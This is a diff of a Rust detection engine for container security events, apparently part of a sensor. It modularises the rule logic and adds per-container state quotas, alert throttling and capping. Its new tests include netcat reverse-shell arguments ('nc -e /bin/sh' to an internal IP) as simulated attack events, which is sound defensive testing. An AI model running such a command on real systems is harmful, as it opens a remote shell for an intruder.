@@ -1,23 +1,29 @@
-//! The detection engine: rules compiled once, dispatched by event kind, with bounded windowed
-//! state (thresholds, container lifetimes) that expires by itself.
+//! The detection engine: rules compiled once, dispatched by event kind, each logic kind in its
+//! own module with its own bounded state ([`keys::KeyTable`]: per-container quotas, counted
+//! evictions), and one gate between a rule that fired and its alert ([`gate`]: throttle per
+//! key and evidence, a per-container cap with "N more like this").
 
-use std::collections::{HashMap, HashSet, VecDeque};
+mod baseline;
+mod gate;
+mod keys;
+mod lifetime;
+mod new_value;
+mod sequence;
+mod threshold;
+
+use std::collections::HashMap;
 
 use sensor_proto::{self as pb, event::Body};
+
+pub use gate::AlertCap;
 
 use super::{
     condition::{Fields, Value},
     fields::EventView,
-    learn::{BaselineParams, Baselines, LearnedSets, SavedLearning, Verdict},
+    learn::{BaselineParams, Baselines, LearnedSets, SavedLearning},
     rule::{CompiledRule, Logic},
 };
-
-/// Keys a threshold rule tracks at most; the oldest window is dropped beyond it.
-const MAX_KEYS: usize = 10_000;
-/// Containers a lifetime rule tracks at most.
-const MAX_CONTAINERS: usize = 10_000;
-/// Events kept as evidence per tracked container.
-const MAX_EVIDENCE: usize = 8;
+use keys::KeyTable;
 
 /// Seconds of an event's time (0 when it has none).
 fn secs(e: &pb::Event) -> f64 {
@@ -27,29 +33,37 @@ fn secs(e: &pb::Event) -> f64 {
         .unwrap_or(0.0)
 }
 
-#[derive(Default)]
-struct Window {
-    /// (time, distinct value) of each match, oldest first.
-    hits: VecDeque<(f64, String)>,
-}
-
-/// What a container did that a lifetime rule finds notable.
-#[derive(Default)]
-struct Activity {
-    evidence: Vec<pb::Event>,
-    count: usize,
-}
-
+/// One rule's state, by logic kind.
 #[derive(Default)]
 struct RuleState {
-    windows: HashMap<String, Window>,
-    activity: HashMap<String, Activity>,
-    /// Throttle key -> when it last alerted.
-    last_alert: HashMap<String, f64>,
+    windows: KeyTable<threshold::Window>,
+    activity: KeyTable<lifetime::Activity>,
     /// Sequence key -> the latest first-step event and its time.
-    started: HashMap<String, (f64, pb::Event)>,
+    started: KeyTable<sequence::FirstStep>,
     learned: LearnedSets,
     baselines: Baselines,
+    gate: gate::Gate,
+}
+
+impl RuleState {
+    /// Entries evicted from its keyed state to make room.
+    fn evicted(&self) -> u64 {
+        self.windows.evicted + self.activity.evicted + self.started.evicted
+    }
+}
+
+/// What a rule's state holds and lost, for `health`.
+#[derive(Clone, Debug, Default, PartialEq)]
+pub struct RuleStats {
+    pub rule_id: String,
+    /// Keys its state holds now.
+    pub keys: u64,
+    /// Keys evicted to make room (a container that filled its quota, or a full table).
+    pub evicted: u64,
+    /// Alerts its throttle dropped.
+    pub throttled: u64,
+    /// Alerts the per-container cap held back (counted in "N more like this" alerts).
+    pub suppressed: u64,
 }
 
 /// Rules and their state.
@@ -59,6 +73,7 @@ pub struct Engine {
     by_kind: HashMap<String, Vec<usize>>,
     any_kind: Vec<usize>,
     pub version: String,
+    cap: AlertCap,
 }
 
 impl Engine {
@@ -103,7 +118,43 @@ impl Engine {
             by_kind,
             any_kind,
             version,
+            cap: AlertCap::default(),
         }
+    }
+
+    pub fn cap(&self) -> AlertCap {
+        self.cap
+    }
+
+    /// The per-rule, per-container alert cap ([`gate`]); `limit` 0 turns it off.
+    pub fn with_cap(mut self, cap: AlertCap) -> Self {
+        self.cap = cap;
+        self
+    }
+
+    /// The "N more like this" alerts of cap periods that ended by `now` (wall-clock seconds):
+    /// called periodically, so held-back alerts are reported even when the flood stopped.
+    pub fn tick(&mut self, now: f64) -> Vec<pb::Alert> {
+        let cap = self.cap;
+        self.state
+            .iter_mut()
+            .flat_map(|s| s.gate.flush(cap, now))
+            .collect()
+    }
+
+    /// Per rule: its state's size and what it evicted, throttled and held back.
+    pub fn stats(&self) -> Vec<RuleStats> {
+        self.rules
+            .iter()
+            .zip(&self.state)
+            .map(|(r, s)| RuleStats {
+                rule_id: r.doc.id.clone(),
+                keys: (s.windows.len() + s.activity.len() + s.started.len()) as u64,
+                evicted: s.evicted(),
+                throttled: s.gate.throttled,
+                suppressed: s.gate.suppressed,
+            })
+            .collect()
     }
 
     pub fn rules(&self) -> &[CompiledRule] {
@@ -185,37 +236,45 @@ impl Engine {
                     if !matches(rule, &view) {
                         continue;
                     }
-                    let measure = Measure {
+                    threshold::Threshold {
+                        key,
                         distinct: distinct.as_deref(),
                         sum: sum.as_deref(),
-                    };
-                    threshold(
-                        state,
-                        &view,
-                        event,
-                        key,
-                        measure,
-                        *above,
-                        *window_seconds as f64,
-                    )
+                        above: *above,
+                        window_seconds: *window_seconds as f64,
+                    }
+                    .observe(&mut state.windows, &view, event)
                     .map(Firing::from)
                 }
                 Logic::Lifetime {
                     max_lifetime_ms, ..
-                } => lifetime(rule, state, &view, event, *max_lifetime_ms).map(Firing::from),
+                } => lifetime::observe(rule, &mut state.activity, &view, event, *max_lifetime_ms)
+                    .map(Firing::from),
                 Logic::Sequence {
                     within_seconds,
                     key,
                     ..
-                } => sequence(rule, state, &view, event, key, *within_seconds as f64)
-                    .map(Firing::from),
+                } => sequence::observe(
+                    rule,
+                    &mut state.started,
+                    &view,
+                    event,
+                    key,
+                    *within_seconds as f64,
+                )
+                .map(Firing::from),
                 Logic::NewValue {
                     key,
                     value,
                     learn_seconds,
                     ..
-                } => new_value(rule, state, &view, event, key, value, *learn_seconds as f64)
-                    .map(Firing::from),
+                } => new_value::NewValue {
+                    key,
+                    value,
+                    learn_seconds: *learn_seconds as f64,
+                }
+                .observe(rule, &mut state.learned, &view, event)
+                .map(Firing::from),
                 Logic::Baseline {
                     key,
                     value,
@@ -231,13 +290,19 @@ impl Engine {
                         min_samples: *min_samples,
                         alpha: *alpha,
                     };
-                    baseline(rule, state, &view, event, key, value, &params)
+                    baseline::observe(
+                        rule,
+                        &mut state.baselines,
+                        &view,
+                        event,
+                        (key, value),
+                        &params,
+                    )
                 }
             };
-            if let Some(Firing(evidence, extra)) = firing
-                && !throttled(rule, state, &view, secs(event))
-            {
-                alerts.push(alert(rule, &self.version, event, evidence, &extra));
+            if let Some(Firing(evidence, extra)) = firing {
+                let raised = alert(rule, &self.version, event, evidence, &extra);
+                alerts.extend(state.gate.admit(rule, &view, raised, self.cap, secs(event)));
             }
         }
         self.note_signals(event, &alerts);
@@ -272,18 +337,11 @@ impl Engine {
             return;
         }
         for (rule, state) in self.rules.iter().zip(&mut self.state) {
-            if !is_lifetime(rule)
-                || (state.activity.len() >= MAX_CONTAINERS
-                    && !state.activity.contains_key(&container))
-            {
-                continue;
-            }
-            let a = state.activity.entry(container.clone()).or_default();
-            if a.evidence.last() != Some(event) {
-                a.count += 1;
-                if a.evidence.len() < MAX_EVIDENCE {
-                    a.evidence.push(event.clone());
-                }
+            if is_lifetime(rule) {
+                state
+                    .activity
+                    .entry(&container, &container, lifetime::Activity::default)
+                    .note(event);
             }
         }
     }
@@ -329,6 +387,12 @@ fn field_text(view: &dyn Fields, name: &str) -> String {
     view.field(name).map(|v| v.to_string()).unwrap_or_default()
 }
 
+/// The container an event is about (`""` for the host or the node): the owner of the keyed
+/// state it creates.
+fn owner(event: &pb::Event) -> &str {
+    event.container.as_ref().map_or("", |c| c.id.as_str())
+}
+
 /// The values of `fields` in the event, joined: the key of a window, sequence or throttle.
 fn key_of(view: &dyn Fields, fields: &[String]) -> String {
     fields
@@ -336,156 +400,6 @@ fn key_of(view: &dyn Fields, fields: &[String]) -> String {
         .map(|k| field_text(view, k))
         .collect::<Vec<_>>()
         .join("|")
-}
-
-/// Whether `rule` alerted for this event's throttle key within its period (records it if not).
-fn throttled(rule: &CompiledRule, state: &mut RuleState, view: &dyn Fields, now: f64) -> bool {
-    let Some(t) = &rule.doc.throttle else {
-        return false;
-    };
-    let key = key_of(view, &t.key);
-    let period = t.seconds as f64;
-    if state
-        .last_alert
-        .get(&key)
-        .is_some_and(|last| now - last < period)
-    {
-        return true;
-    }
-    if state.last_alert.len() >= MAX_KEYS {
-        state.last_alert.retain(|_, last| now - *last < period);
-    }
-    state.last_alert.insert(key, now);
-    false
-}
-
-/// What a threshold measures in its window: matches, distinct values, or a sum.
-struct Measure<'a> {
-    distinct: Option<&'a str>,
-    sum: Option<&'a str>,
-}
-
-/// Counts a match in its key's window; fires (and starts the window over) above the limit.
-fn threshold(
-    state: &mut RuleState,
-    view: &dyn Fields,
-    event: &pb::Event,
-    key: &[String],
-    measure: Measure,
-    above: u64,
-    window: f64,
-) -> Option<Vec<pb::Event>> {
-    let now = secs(event);
-    let key = key_of(view, key);
-    if state.windows.len() >= MAX_KEYS && !state.windows.contains_key(&key) {
-        state
-            .windows
-            .retain(|_, w| w.hits.back().is_some_and(|(t, _)| now - t < window));
-        if state.windows.len() >= MAX_KEYS {
-            return None;
-        }
-    }
-    let w = state.windows.entry(key.clone()).or_default();
-    let value = match (measure.distinct, measure.sum) {
-        (Some(d), _) => field_text(view, d),
-        (None, Some(s)) => field_text(view, s),
-        _ => String::new(),
-    };
-    w.hits.push_back((now, value));
-    while w.hits.front().is_some_and(|(t, _)| now - t > window) {
-        w.hits.pop_front();
-    }
-    let total = match (measure.distinct, measure.sum) {
-        (Some(_), _) => w
-            .hits
-            .iter()
-            .map(|(_, v)| v.as_str())
-            .collect::<HashSet<_>>()
-            .len() as u64,
-        (None, Some(_)) => w
-            .hits
-            .iter()
-            .map(|(_, v)| v.parse::<u64>().unwrap_or(0))
-            .sum(),
-        _ => w.hits.len() as u64,
-    };
-    if total <= above {
-        return None;
-    }
-    state.windows.remove(&key);
-    Some(vec![event.clone()])
-}
-
-/// Tracks notable activity per container; fires at a short-lived container's exit.
-fn lifetime(
-    rule: &CompiledRule,
-    state: &mut RuleState,
-    view: &dyn Fields,
-    event: &pb::Event,
-    max_ms: u64,
-) -> Option<Vec<pb::Event>> {
-    let container = event.container.as_ref()?.id.clone();
-    if let Some(Body::ContainerExited(exited)) = &event.body {
-        let activity = state.activity.remove(&container)?;
-        // The exit carries everything the runtime said about the container, which its first
-        // events may have lacked: an exception by image, name or label applies here too.
-        if excepted(rule, view) {
-            return None;
-        }
-        let lived_ms = exited
-            .lifetime
-            .as_ref()
-            .map(|d| d.seconds as u64 * 1000 + d.nanos as u64 / 1_000_000)?;
-        if lived_ms >= max_ms || activity.count == 0 {
-            return None;
-        }
-        let mut evidence = activity.evidence;
-        evidence.push(event.clone());
-        return Some(evidence);
-    }
-    if matches(rule, view) {
-        if state.activity.len() >= MAX_CONTAINERS && !state.activity.contains_key(&container) {
-            return None;
-        }
-        let a = state.activity.entry(container).or_default();
-        a.count += 1;
-        if a.evidence.len() < MAX_EVIDENCE {
-            a.evidence.push(event.clone());
-        }
-    }
-    None
-}
-
-/// Remembers first-step events by key; fires when a second step follows within the window.
-fn sequence(
-    rule: &CompiledRule,
-    state: &mut RuleState,
-    view: &dyn Fields,
-    event: &pb::Event,
-    key: &[String],
-    within: f64,
-) -> Option<Vec<pb::Event>> {
-    let now = secs(event);
-    let key = key_of(view, key);
-    let excepted = excepted(rule, view);
-    if !excepted
-        && rule.then.as_ref().is_some_and(|t| t.eval(view))
-        && let Some((t, first)) = state.started.get(&key)
-        && now - t <= within
-    {
-        let first = first.clone();
-        state.started.remove(&key);
-        return Some(vec![first, event.clone()]);
-    }
-    if !excepted && rule.condition.eval(view) {
-        if state.started.len() >= MAX_KEYS {
-            state.started.retain(|_, (t, _)| now - *t <= within);
-        }
-        if state.started.len() < MAX_KEYS {
-            state.started.insert(key, (now, event.clone()));
-        }
-    }
-    None
 }
 
 /// The values of `fields` joined, or `None` when one is missing: the key of learned state,
@@ -496,55 +410,6 @@ fn full_key(view: &dyn Fields, fields: &[String]) -> Option<String> {
         .map(|f| view.field(f).map(|v| v.to_string()))
         .collect();
     parts.map(|p| p.join("|"))
-}
-
-/// Learns values per key; fires on a value outside the key's set after its learning period.
-fn new_value(
-    rule: &CompiledRule,
-    state: &mut RuleState,
-    view: &dyn Fields,
-    event: &pb::Event,
-    key: &[String],
-    value: &str,
-    learn: f64,
-) -> Option<Vec<pb::Event>> {
-    let now = secs(event);
-    let key = full_key(view, key)?;
-    if !matches(rule, view) {
-        if event.kind == "container_started" {
-            state.learned.saw(&key, now);
-        }
-        return None;
-    }
-    let value = view.field(value)?.to_string();
-    (state.learned.judge(&key, &value, now, learn) == Verdict::New).then(|| vec![event.clone()])
-}
-
-/// Sums a value per key and report; fires when a report is far above the key's own baseline.
-fn baseline(
-    rule: &CompiledRule,
-    state: &mut RuleState,
-    view: &dyn Fields,
-    event: &pb::Event,
-    key: &[String],
-    value: &str,
-    params: &BaselineParams,
-) -> Option<Firing> {
-    if !matches(rule, view) {
-        return None;
-    }
-    let key = full_key(view, key)?;
-    let Some(Value::Int(v)) = view.field(value) else {
-        return None;
-    };
-    let hit = state
-        .baselines
-        .observe(&key, v as f64, secs(event), params)?;
-    let extra = vec![
-        ("baseline.value", Value::Int(hit.value as i64)),
-        ("baseline.mean", Value::Int(hit.baseline.round() as i64)),
-    ];
-    Some(Firing(vec![event.clone()], extra))
 }
 
 /// Fills `{field}` placeholders from the event; `{a|b}` takes the first field present (a rule
@@ -719,6 +584,86 @@ mod tests {
             event("exec", "b", "/x", 100),
         ];
         assert_eq!(run(&mut e, &evs), [1, 0, 0, 1, 1]);
+    }
+
+    #[test]
+    fn a_decoy_does_not_burn_the_throttle_for_the_real_attack() {
+        let extra = "throttle: {key: [container.id], seconds: 600}\n";
+        let r = rule("  kind: condition\n  condition: evt.kind = exec\n", extra);
+        let mut e = Engine::new(vec![r], "v".into());
+        let with_args = |exe: &str, args: &[&str], t| {
+            let mut ev = event("exec", "a", exe, t);
+            ev.process.as_mut().unwrap().args = args.iter().map(|a| a.to_string()).collect();
+            ev
+        };
+        let evs = [
+            with_args("/bin/nc", &["nc", "-e", "/bin/true", "127.0.0.1", "1"], 0), // decoy
+            with_args("/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.9", "443"], 1),  // the attack
+            with_args("/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.9", "443"], 2),  // repeated
+        ];
+        assert_eq!(run(&mut e, &evs), [1, 1, 0]);
+        assert_eq!(e.stats()[0].throttled, 1);
+    }
+
+    #[test]
+    fn a_flood_of_distinct_alerts_is_capped_and_reported_as_n_more() {
+        let r = rule("  kind: condition\n  condition: evt.kind = exec\n", "");
+        let cap = AlertCap {
+            limit: 3,
+            seconds: 60.0,
+        };
+        let mut e = Engine::new(vec![r], "v".into()).with_cap(cap);
+        let flood: Vec<pb::Event> = (0..10)
+            .map(|i| event("exec", "a", &format!("/x{i}"), i))
+            .collect();
+        assert_eq!(run(&mut e, &flood), [1, 1, 1, 0, 0, 0, 0, 0, 0, 0]);
+        // Another container is not capped by the first one's flood.
+        assert_eq!(e.on_event(&event("exec", "b", "/y", 11)).len(), 1);
+        assert!(e.tick(30.0).is_empty(), "the period has not ended");
+        let more = e.tick(61.0);
+        assert_eq!(more.len(), 1);
+        assert_eq!(more[0].suppressed, 7);
+        assert!(
+            more[0].summary.starts_with("7 more like this"),
+            "{}",
+            more[0].summary
+        );
+        assert_eq!(
+            more[0].process.as_ref().unwrap().exe,
+            "/x9",
+            "the latest held back"
+        );
+        assert_eq!(e.stats()[0].suppressed, 7);
+        assert!(e.tick(200.0).is_empty(), "reported once");
+        // A new period: alerts pass again.
+        assert_eq!(e.on_event(&event("exec", "a", "/z", 300)).len(), 1);
+    }
+
+    #[test]
+    fn one_container_cannot_fill_a_threshold_and_silence_it_for_another() {
+        let logic = "  kind: threshold\n  condition: evt.kind = exec\n  key: [container.id, proc.exe]\n  above: 1\n  window_seconds: 600\n";
+        let mut e = Engine::new(vec![rule(logic, "")], "v".into()).with_cap(AlertCap {
+            limit: 0,
+            seconds: 1.0,
+        });
+        assert!(
+            e.on_event(&event("exec", "victim", "/bin/sh", 0))
+                .is_empty()
+        );
+        for i in 0..(keys::MAX_KEYS as i64 * 2) {
+            e.on_event(&event("exec", "flood", &format!("/f{i}"), 1));
+        }
+        assert_eq!(
+            e.on_event(&event("exec", "victim", "/bin/sh", 2)).len(),
+            1,
+            "the victim's window survived the flood"
+        );
+        let stats = &e.stats()[0];
+        assert!(stats.evicted >= keys::MAX_KEYS as u64, "{stats:?}");
+        assert!(
+            stats.keys <= keys::MAX_KEYS_PER_OWNER as u64 + 1,
+            "{stats:?}"
+        );
     }
 
     #[test]
